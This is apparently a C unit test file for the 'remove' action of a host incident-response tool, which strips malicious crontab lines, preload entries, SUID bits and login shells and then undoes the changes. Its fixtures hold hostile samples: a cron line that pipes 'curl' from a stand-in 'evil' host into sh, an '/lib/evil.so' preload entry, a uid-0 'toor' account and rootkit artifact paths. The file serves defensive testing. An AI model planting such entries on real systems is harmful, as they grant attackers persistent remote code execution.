/*
 * test_respond_remove.c — the remove action kind over a temporary root:
 * command-line targets (RULE:PATH[:LINE]) and their malformed forms, what
 * propose makes of findings (the line hashes, one action per finding,
 * nothing for notes below medium or rules it does not answer, nothing for
 * malformed findings), and prepare/apply/undo of a line removal (owner,
 * mode and xattrs kept; a file changed after prepare, a symlink and a file
 * with NUL bytes refused; undo byte-identical) and of a SUID bit.
 */
#include "testutil.h"
#include "core/digest.h"
#include "core/util.h"
#include "respond/kinds.h"
#include "respond/plan.h"
#include "respond/quarantine.h"

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>

typedef struct fixture {
	char *root;
	char *state;
	rs_host host;
	rs_respond_ctx ctx;
} fixture;

static int setup(void **state)
{
	fixture *f = rs_calloc(1, sizeof(*f));
	f->root = rs_test_tmpdir();
	f->state = rs_test_tmpdir();
	rs_test_write(f->root, "etc/crontab", "SHELL=/bin/sh\n17 * * * * root run-parts /etc/cron.hourly\n"
					   "*/5 * * * * root curl -s http://evil/k | sh\n");
	rs_test_write(f->root, "etc/ld.so.preload", "# note\n/lib/evil.so\n\n/lib/other.so /lib/third.so\n");
	assert_int_equal(rs_host_init(&f->host, f->root, ""), 0);
	f->ctx.host = &f->host;
	f->ctx.state_dir = f->state;
	char err[512];
	assert_int_equal(rs_quarantine_open(f->state, &f->ctx.quarantine, err, sizeof(err)), 0);
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	fixture *f = *state;
	rs_quarantine_close(f->ctx.quarantine);
	rs_host_free(&f->host);
	rs_test_rmrf(f->root);
	rs_test_rmrf(f->state);
	free(f->root);
	free(f->state);
	free(f);
	return 0;
}

static char *host_path(const fixture *f, const char *rel)
{
	return rs_sprintf("%s/%s", f->root, rel);
}

static char *slurp(const char *path)
{
	FILE *fp = fopen(path, "rb");
	assert_non_null(fp);
	char *buf = rs_calloc(1, 1 << 16);
	size_t n = fread(buf, 1, (1 << 16) - 1, fp);
	buf[n] = '\0';
	fclose(fp);
	return buf;
}

static void test_parse_target(void **state)
{
	(void)state;
	const rs_action_kind *k = &rs_kind_remove;
	char err[512];
	json_t *t = k->parse_target("rasoat:persist.cron:/etc/crontab:3", NULL, err, sizeof(err));
	assert_non_null(t);
	assert_string_equal(json_string_value(json_object_get(t, "rule")), "rasoat:persist.cron");
	assert_string_equal(json_string_value(json_object_get(t, "path")), "/etc/crontab");
	assert_string_equal(json_string_value(json_object_get(t, "how")), "line");
	assert_int_equal(json_integer_value(json_object_get(t, "line")), 3);
	json_decref(t);
	t = k->parse_target("rasoat:rootkit.known_artifact:/reptile", NULL, err, sizeof(err));
	assert_string_equal(json_string_value(json_object_get(t, "how")), "file");
	assert_null(json_object_get(t, "line"));
	json_decref(t);
	/* a path with a colon that is not a line number stays whole */
	t = k->parse_target("rasoat:persist.suid:/opt/a:b", NULL, err, sizeof(err));
	assert_string_equal(json_string_value(json_object_get(t, "path")), "/opt/a:b");
	json_decref(t);
	static const struct {
		const char *arg, *why;
	} bad[] = {
		{ "", "is not RULE:PATH" },
		{ "/etc/crontab", "is not RULE:PATH" },
		{ "rasoat:persist.cron", "is not RULE:PATH" },
		{ "rasoat:persist.cron:/etc/crontab", "name the line" },
		{ "rasoat:persist.cron:/etc/crontab:0", "1 or more" },
		{ "rasoat:persist.cron:/etc/crontab:99999999999999999999", "1 or more" },
		{ "rasoat:hunt.yara:/tmp/x", "not a rule remove answers" },
		{ "rasoat:persist.system_account_shell:/etc/passwd", "account's line" },
	};
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		err[0] = '\0';
		assert_null(k->parse_target(bad[i].arg, NULL, err, sizeof(err)));
		if (!strstr(err, bad[i].why))
			fail_msg("%s: %s", bad[i].arg, err);
	}
	assert_null(k->parse_target(NULL, NULL, err, sizeof(err)));
}

static json_t *propose(fixture *f, const char *finding_json)
{
	json_t *finding = json_loads(finding_json, 0, NULL);
	assert_non_null(finding);
	json_t *actions = json_array();
	rs_kind_remove.propose(finding, &f->host, actions);
	json_decref(finding);
	return actions;
}

static void test_propose(void **state)
{
	fixture *f = *state;
	json_t *a = propose(f, "{\"rule\":\"rasoat:persist.cron\",\"severity\":\"high\",\"title\":\"t\","
			       "\"evidence\":{\"path\":\"/etc/crontab\",\"line\":3,\"line_sha256\":\"ab\","
			       "\"lines\":[{\"line\":3,\"sha256\":\"ab\"}],\"entry\":\"e\"}}");
	assert_int_equal(json_array_size(a), 1);
	json_t *t = json_object_get(json_array_get(a, 0), "target");
	assert_string_equal(json_string_value(json_object_get(json_array_get(a, 0), "action")), "remove");
	assert_string_equal(json_string_value(json_object_get(t, "how")), "line");
	assert_int_equal(json_integer_value(json_object_get(t, "line")), 3);
	assert_string_equal(json_string_value(json_object_get(t, "entry")), "e");
	assert_non_null(json_string_value(json_object_get(json_array_get(a, 0), "reason")));
	json_decref(a);

	/* the preload lines are read from the host: every line naming a library */
	a = propose(f, "{\"rule\":\"rasoat:rootkit.ld_so_preload\",\"severity\":\"high\","
		       "\"evidence\":{\"path\":\"/etc/ld.so.preload\"}}");
	json_t *lines = json_object_get(json_object_get(json_array_get(a, 0), "target"), "lines");
	assert_int_equal(json_array_size(lines), 2);
	assert_int_equal(json_integer_value(json_object_get(json_array_get(lines, 0), "line")), 2);
	assert_int_equal(json_integer_value(json_object_get(json_array_get(lines, 1), "line")), 4);
	char hex[65];
	rs_sha256_hex("/lib/evil.so", 12, hex);
	assert_string_equal(json_string_value(json_object_get(json_array_get(lines, 0), "sha256")), hex);
	json_decref(a);

	static const char *const nothing[] = {
		/* a note below medium */
		"{\"rule\":\"rasoat:persist.systemd_unit\",\"severity\":\"info\",\"evidence\":{\"path\":\"/etc/x\"}}",
		/* a rule remove does not answer */
		"{\"rule\":\"rasoat:hunt.yara\",\"severity\":\"high\",\"evidence\":{\"path\":\"/tmp/x\"}}",
		/* a line family without lines */
		"{\"rule\":\"rasoat:persist.pam\",\"severity\":\"high\",\"evidence\":{\"path\":\"/etc/pam.d/x\"}}",
		/* malformed */
		"{\"rule\":\"rasoat:persist.suid\",\"severity\":\"high\",\"evidence\":{\"path\":7}}",
		"{\"rule\":\"rasoat:persist.suid\",\"severity\":\"high\",\"evidence\":[]}",
		"{\"rule\":\"rasoat:persist.suid\",\"severity\":\"high\",\"evidence\":{\"path\":\"relative\"}}",
		"{\"rule\":3,\"severity\":\"high\"}",
		"{\"rule\":\"rasoat:persist.system_account_shell\",\"severity\":\"high\",\"evidence\":{\"path\":\"/etc/passwd\"}}",
	};
	for (size_t i = 0; i < sizeof(nothing) / sizeof(nothing[0]); i++) {
		a = propose(f, nothing[i]);
		if (json_array_size(a) != 0)
			fail_msg("proposed for %s", nothing[i]);
		json_decref(a);
	}
}

/* Runs prepare (and, when APPLY, apply) of TARGET; returns apply's or prepare's result. */
static int run_action(fixture *f, json_t *target, json_t *before, bool apply, char *err, size_t errsize)
{
	json_t *describe = json_array();
	int rc = rs_kind_remove.prepare(&f->ctx, target, before, describe, err, errsize);
	json_decref(describe);
	if (rc == 0 && apply) {
		json_t *after = json_object();
		rc = rs_kind_remove.apply(&f->ctx, target, before, after, err, errsize);
		json_decref(after);
	}
	return rc;
}

static json_t *crontab_target(void)
{
	char hex[65];
	const char *evil = "*/5 * * * * root curl -s http://evil/k | sh";
	rs_sha256_hex(evil, strlen(evil), hex);
	return json_pack("{s:s,s:s,s:s,s:[{s:i,s:s}]}", "rule", "rasoat:persist.cron", "path", "/etc/crontab",
			 "how", "line", "lines", "line", 3, "sha256", hex);
}

static void test_line_apply_undo(void **state)
{
	fixture *f = *state;
	char *path = host_path(f, "etc/crontab");
	assert_int_equal(chmod(path, 0640), 0);
	assert_int_equal(chown(path, 0, 42), 0);
	assert_int_equal(setxattr(path, "user.tag", "v", 1, 0), 0);
	char *original = slurp(path);
	struct stat st0;
	assert_int_equal(stat(path, &st0), 0);

	json_t *target = crontab_target(), *before = json_object();
	char err[512];
	assert_int_equal(run_action(f, target, before, true, err, sizeof(err)), 0);
	char *now = slurp(path);
	assert_string_equal(now, "SHELL=/bin/sh\n17 * * * * root run-parts /etc/cron.hourly\n");
	free(now);
	struct stat st;
	assert_int_equal(stat(path, &st), 0);
	assert_int_equal(st.st_mode & 07777, 0640);
	assert_int_equal(st.st_gid, 42);
	char v[8];
	assert_int_equal(getxattr(path, "user.tag", v, sizeof(v)), 1);

	/* undo, twice: byte-identical, same mode and mtime */
	for (int i = 0; i < 2; i++)
		assert_int_equal(rs_kind_remove.undo(&f->ctx, target, before, err, sizeof(err)), 0);
	now = slurp(path);
	assert_string_equal(now, original);
	free(now);
	assert_int_equal(stat(path, &st), 0);
	assert_int_equal(st.st_mode, st0.st_mode);
	assert_int_equal(st.st_mtim.tv_nsec, st0.st_mtim.tv_nsec);
	assert_int_equal(st.st_mtim.tv_sec, st0.st_mtim.tv_sec);
	json_decref(before);
	json_decref(target);
	free(original);
	free(path);
}

static void test_line_refusals(void **state)
{
	fixture *f = *state;
	char err[512];
	json_t *target = crontab_target(), *before = json_object(), *describe = json_array();
	/* the file changes between prepare and apply: refused, unchanged */
	assert_int_equal(rs_kind_remove.prepare(&f->ctx, target, before, describe, err, sizeof(err)), 0);
	rs_test_write(f->root, "etc/crontab", "SHELL=/bin/sh\n*/5 * * * * root curl -s http://evil/k | sh\nnew\n");
	json_t *after = json_object();
	assert_int_equal(rs_kind_remove.apply(&f->ctx, target, before, after, err, sizeof(err)), -1);
	assert_non_null(strstr(err, "/etc/crontab: changed since the action was prepared"));
	json_decref(after);
	json_decref(before);
	json_decref(describe);

	/* duplicated and not at its number: ambiguous */
	rs_test_write(f->root, "etc/crontab", "*/5 * * * * root curl -s http://evil/k | sh\n"
					   "*/5 * * * * root curl -s http://evil/k | sh\nx\n");
	before = json_object();
	assert_int_equal(run_action(f, target, before, false, err, sizeof(err)), -1);
	assert_non_null(strstr(err, "ambiguous"));
	json_decref(before);

	/* binary junk */
	char *path = host_path(f, "etc/crontab");
	FILE *fp = fopen(path, "wb");
	fwrite("a\n\x7f" "ELF\0\0\n", 1, 9, fp);
	fclose(fp);
	before = json_object();
	assert_int_equal(run_action(f, target, before, false, err, sizeof(err)), -1);
	assert_non_null(strstr(err, "/etc/crontab:2: holds a NUL byte"));
	json_decref(before);

	/* a symlink is not followed */
	unlink(path);
	assert_int_equal(symlink("/etc/ld.so.preload", path), 0);
	before = json_object();
	assert_int_equal(run_action(f, target, before, false, err, sizeof(err)), -1);
	assert_non_null(strstr(err, "symlink"));
	json_decref(before);
	json_decref(target);
	free(path);
}

static void test_suid(void **state)
{
	fixture *f = *state;
	rs_test_write(f->root, "tmp/.bash", "\x7f" "ELF");
	char *path = host_path(f, "tmp/.bash");
	assert_int_equal(chmod(path, 06755), 0);
	json_t *target = json_pack("{s:s,s:s,s:s}", "rule", "rasoat:persist.suid", "path", "/tmp/.bash", "how", "suid");
	json_t *before = json_object();
	char err[512];
	assert_int_equal(run_action(f, target, before, true, err, sizeof(err)), 0);
	struct stat st;
	assert_int_equal(stat(path, &st), 0);
	assert_int_equal(st.st_mode & 07777, 0755);
	/* nothing left to clear: prepare refuses */
	json_t *again = json_object();
	assert_int_equal(run_action(f, target, again, false, err, sizeof(err)), -1);
	assert_non_null(strstr(err, "neither SUID nor SGID"));
	json_decref(again);
	assert_int_equal(rs_kind_remove.undo(&f->ctx, target, before, err, sizeof(err)), 0);
	assert_int_equal(stat(path, &st), 0);
	assert_int_equal(st.st_mode & 07777, 06755);
	json_decref(before);
	json_decref(target);
	free(path);
}

static void test_shell(void **state)
{
	fixture *f = *state;
	rs_test_write(f->root, "etc/passwd", "root:x:0:0:root:/root:/bin/bash\n"
					  "toor:x:0:0::/root:/bin/sh\n"
					  "sshd2:x:120:65534::/run/sshd:/bin/bash\n"
					  "alice:x:1000:1000::/home/alice:/bin/bash\n");
	char err[512];
	json_t *before = json_object();
	json_t *target = json_pack("{s:s,s:s,s:s,s:s}", "rule", "rasoat:persist.system_account_shell", "path",
				   "/etc/passwd", "how", "shell", "user", "toor");
	assert_int_equal(run_action(f, target, before, false, err, sizeof(err)), -1);
	assert_non_null(strstr(err, "uid 0"));
	json_decref(target);
	json_decref(before);
	before = json_object();
	target = json_pack("{s:s,s:s,s:s,s:s}", "rule", "rasoat:persist.system_account_shell", "path", "/etc/passwd",
			   "how", "shell", "user", "sshd2");
	assert_int_equal(run_action(f, target, before, true, err, sizeof(err)), 0);
	char *path = host_path(f, "etc/passwd");
	char *now = slurp(path);
	assert_non_null(strstr(now, "\nsshd2:x:120:65534::/run/sshd:/usr/sbin/nologin\nalice:"));
	assert_non_null(strstr(now, "root:x:0:0:root:/root:/bin/bash\n"));
	free(now);
	/* already without a login shell: nothing to do */
	json_t *again = json_object();
	assert_int_equal(run_action(f, target, again, false, err, sizeof(err)), -1);
	assert_non_null(strstr(err, "already has no login shell"));
	json_decref(again);
	assert_int_equal(rs_kind_remove.undo(&f->ctx, target, before, err, sizeof(err)), 0);
	now = slurp(path);
	assert_non_null(strstr(now, "sshd2:x:120:65534::/run/sshd:/bin/bash\n"));
	free(now);
	free(path);
	json_decref(target);
	json_decref(before);
}

/* One action per path across kinds and modules: a known rootkit file that
 * remove and quarantine both answer gets one; a member of a tree removed
 * whole gets none of its own; two lines of one file get one each. */
static void test_plan_one_per_path(void **state)
{
	fixture *f = *state;
	rs_test_write(f->root, "XxJynx/jynx2.so", "x");
	rs_test_write(f->root, "lib64/libns2.so", "x");
	json_t *findings = json_loads(
		"[{\"module\":\"rootkit\",\"rule\":\"rasoat:rootkit.known_artifact\",\"severity\":\"high\","
		"  \"evidence\":{\"path\":\"/XxJynx\"}},"
		" {\"module\":\"rootkit\",\"rule\":\"rasoat:rootkit.known_artifact\",\"severity\":\"high\","
		"  \"evidence\":{\"path\":\"/XxJynx/jynx2.so\"}},"
		" {\"module\":\"rootkit\",\"rule\":\"rasoat:rootkit.known_artifact\",\"severity\":\"high\","
		"  \"evidence\":{\"path\":\"/lib64/libns2.so\"}},"
		" {\"module\":\"persist\",\"rule\":\"rasoat:persist.suid\",\"severity\":\"high\","
		"  \"evidence\":{\"path\":\"/lib64/libns2.so\"}},"
		" {\"module\":\"persist\",\"rule\":\"rasoat:persist.cron\",\"severity\":\"high\","
		"  \"evidence\":{\"path\":\"/etc/crontab\",\"lines\":[{\"line\":2,\"sha256\":\"a\"}]}},"
		" {\"module\":\"persist\",\"rule\":\"rasoat:persist.cron\",\"severity\":\"high\","
		"  \"evidence\":{\"path\":\"/etc/crontab\",\"lines\":[{\"line\":3,\"sha256\":\"b\"}]}}]",
		0, NULL);
	assert_non_null(findings);
	const rs_action_kind *const kinds[] = { &rs_kind_remove, &rs_kind_quarantine, NULL };
	json_t *plan = rs_plan_build(findings, "s", "h", &f->host, kinds);
	json_t *actions = json_object_get(plan, "actions");
	assert_int_equal(json_array_size(actions), 4);
	static const char *const want[][2] = {
		{ "remove", "/XxJynx" }, { "remove", "/lib64/libns2.so" },
		{ "remove", "/etc/crontab" }, { "remove", "/etc/crontab" },
	};
	for (size_t i = 0; i < 4; i++) {
		json_t *a = json_array_get(actions, i);
		assert_string_equal(json_string_value(json_object_get(a, "action")), want[i][0]);
		assert_string_equal(json_string_value(json_object_get(json_object_get(a, "target"), "path")), want[i][1]);
	}
	assert_string_equal(json_string_value(json_object_get(json_object_get(json_array_get(actions, 1), "target"),
							      "how")), "file");
	json_decref(plan);
	json_decref(findings);
}

int main(void)
{
	if (geteuid() != 0) {
		printf("test_respond_remove: skipped (needs root: owners)\n");
		return 0;
	}
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_parse_target),
		cmocka_unit_test_setup_teardown(test_propose, setup, teardown),
		cmocka_unit_test_setup_teardown(test_line_apply_undo, setup, teardown),
		cmocka_unit_test_setup_teardown(test_line_refusals, setup, teardown),
		cmocka_unit_test_setup_teardown(test_suid, setup, teardown),
		cmocka_unit_test_setup_teardown(test_shell, setup, teardown),
		cmocka_unit_test_setup_teardown(test_plan_one_per_path, setup, teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
